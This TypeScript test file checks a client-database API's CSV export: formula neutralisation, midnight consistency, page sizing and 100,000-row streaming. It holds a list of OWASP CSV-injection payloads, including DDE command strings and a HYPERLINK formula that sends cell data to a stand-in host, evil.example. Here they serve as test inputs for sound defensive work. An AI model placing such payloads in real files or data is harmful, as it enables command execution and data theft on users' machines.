import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clientsCsv, createClientsRepository, exportColumns } from '../../src/clients/index.js';
import type { App } from '../../src/http/types.js';
import { fromCsvCell, toCsvCell } from '../../src/lib/index.js';
import { auth, buildTestApp } from '../support/app.js';
import { describeEachDb } from '../support/db.js';
import { cedulaFor } from '../support/fixtures.js';

/** OWASP "CSV injection" payloads: each starts with a character a spreadsheet evaluates. */
const owasp = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
  '\t=1+1',
  '\r=1+1',
  '-1-1',
  '+1+1',
];

describe('CSV cells never carry a formula (issue 12 §5)', () => {
  it.each(owasp)('neutralises %j and reads it back unchanged', (payload) => {
    const cell = toCsvCell(payload);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
    expect(unquoted.startsWith("'")).toBe(true);
    expect(fromCsvCell(unquoted)).toBe(payload);
  });

  it('leaves plain numbers and ordinary text alone', () => {
    expect(toCsvCell('-12.5')).toBe('-12.5');
    expect(toCsvCell('25')).toBe('25');
    expect(toCsvCell('Ana, la de "arriba"')).toBe('"Ana, la de ""arriba"""');
    expect(toCsvCell(null)).toBe('');
  });
});

describeEachDb('Client export (issue 12 §5, issue 16 §2)', (ctx) => {
  let app: App;
  let base: string;
  beforeAll(async () => {
    ({ app } = await buildTestApp(ctx.db));
    await app.listen({ port: 0, host: '127.0.0.1' });
    base = `http://127.0.0.1:${(app.server.address() as { port: number }).port}`;
  });
  afterAll(async () => {
    await app.close();
  });

  it('exports formula-looking values neutralised, and the file re-imports to the same values', async () => {
    await ctx.db.query(
      `INSERT INTO clients (cedula, nombre, direccion) SELECT * FROM unnest($1::text[], $2::text[], $3::text[])`,
      [owasp.map((_, i) => cedulaFor(900 + i)), owasp.map((_, i) => `Cliente Fórmula ${i}`), owasp],
    );
    const csv = (await app.inject({ url: '/api/clientes/exportar', headers: auth })).body;
    for (const line of csv.split('\r\n').slice(1, -1)) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
    }
    const re = await app.inject({
      method: 'POST',
      url: '/api/clientes/importar',
      headers: { ...auth, 'content-type': 'text/csv' },
      payload: csv,
    });
    expect(re.json()).toMatchObject({ actualizados: owasp.length, errores: [] });
    const { rows } = await ctx.db.query<{ direccion: string }>(
      'SELECT direccion FROM clients WHERE cedula = ANY($1) ORDER BY cedula',
      [owasp.map((_, i) => cedulaFor(900 + i))],
    );
    // The import trims spaces around a value, as for every field.
    expect(rows.map((r) => r.direccion)).toEqual(owasp.map((v) => v.trim()));
    await ctx.db.query('DELETE FROM clients');
  });

  it("an export that crosses midnight is one day's file: every page has the payment state of the day it began", async () => {
    // Due 2026-03-10 (last payment + 30 days): "por_vencer" on the 9th, "vencido" on the 10th.
    await ctx.db.query(
      `INSERT INTO clients (cedula, nombre, fecha_ultimo_pago) VALUES ($1, 'Medianoche A', '2026-02-08'), ($2, 'Medianoche B', '2026-02-08')`,
      [cedulaFor(950), cedulaFor(951)],
    );
    // The clock reads the 9th first, the 10th from then on (midnight passes after the first page).
    let reads = 0;
    const repo = createClientsRepository(ctx.db, () => ({
      today: reads++ === 0 ? '2026-03-09' : '2026-03-10',
      cycleDays: 30,
      reminderDaysBefore: 3,
    }));
    let csv = '';
    for await (const chunk of clientsCsv(repo, {}, 1)) csv += chunk;
    const state = exportColumns.indexOf('estado_pago');
    const states = csv
      .trim()
      .split('\r\n')
      .slice(1)
      .map((l) => l.split(',')[state]);
    expect(states).toEqual(['por_vencer', 'por_vencer']);
    await ctx.db.query('DELETE FROM clients');
  });

  it('the first pages are smaller (a quarter, a half, then whole), and every client comes once, in name order', async () => {
    await ctx.db.query(
      `INSERT INTO clients (cedula, nombre) SELECT lpad((960 + i)::text, 10, '0'), 'Rampa ' || lpad(i::text, 2, '0')
         FROM generate_series(1, 30) AS i`,
    );
    const repo = createClientsRepository(ctx.db, () => ({
      today: '2026-03-09',
      cycleDays: 30,
      reminderDaysBefore: 3,
    }));
    const pages: string[][] = [];
    // The second column only gives the statement's date parameter ($1) a use, as the export's columns do.
    for await (const page of repo.walkValues(
      {},
      ['c.nombre', 'teltec_payment_state(d.due, $1::date, $3)'],
      8,
    ))
      pages.push(page.map((v) => String(v[0])));
    expect(pages.map((p) => p.length)).toEqual([2, 4, 8, 8, 8]);
    expect(pages.flat()).toEqual(
      Array.from({ length: 30 }, (_, i) => `Rampa ${String(i + 1).padStart(2, '0')}`),
    );
    await ctx.db.query('DELETE FROM clients');
  });

  it('100,000 clients stream out: the first rows arrive before the last are read, and /health keeps answering', async () => {
    await ctx.db.query(
      `INSERT INTO clients (cedula, nombre, sector, fecha_ultimo_pago)
       SELECT lpad(i::text, 10, '0'), 'Cliente ' || lpad(i::text, 6, '0'), 'Sector ' || (i % 7), DATE '2026-02-01' + (i % 28)
         FROM generate_series(1, 100000) AS i`,
    );
    const t0 = performance.now();
    const res = await fetch(`${base}/api/clientes/exportar`, { headers: auth });
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    const first = await reader.read();
    const head = new TextDecoder().decode(first.value);
    expect(head).toContain('cedula,nombre');
    // A client added now sorts last: a file produced before the first bytes were sent cannot hold it.
    await ctx.db.query(`INSERT INTO clients (cedula, nombre) VALUES ('9999999999', 'Zúñiga Último')`);
    let healthAnswers = 0;
    let done = false;
    const poll = (async () => {
      while (!done) {
        const h = await fetch(`${base}/health`);
        expect(h.status).toBe(200);
        healthAnswers++;
        await new Promise((r) => setTimeout(r, 5));
      }
    })();
    const chunks: string[] = [head];
    const decoder = new TextDecoder();
    for (;;) {
      const { value, done: end } = await reader.read();
      if (end) break;
      chunks.push(decoder.decode(value, { stream: true }));
    }
    done = true;
    await poll;
    console.log(
      `export ${ctx.kind}: ${Math.round(performance.now() - t0)} ms, /health answered ${healthAnswers} times`,
    );
    const lines = chunks.join('').trim().split('\r\n');
    expect(lines).toHaveLength(100_002);
    expect(lines.at(-1)).toContain('Zúñiga Último');
    expect(healthAnswers).toBeGreaterThan(2);
  }, 180_000);
});
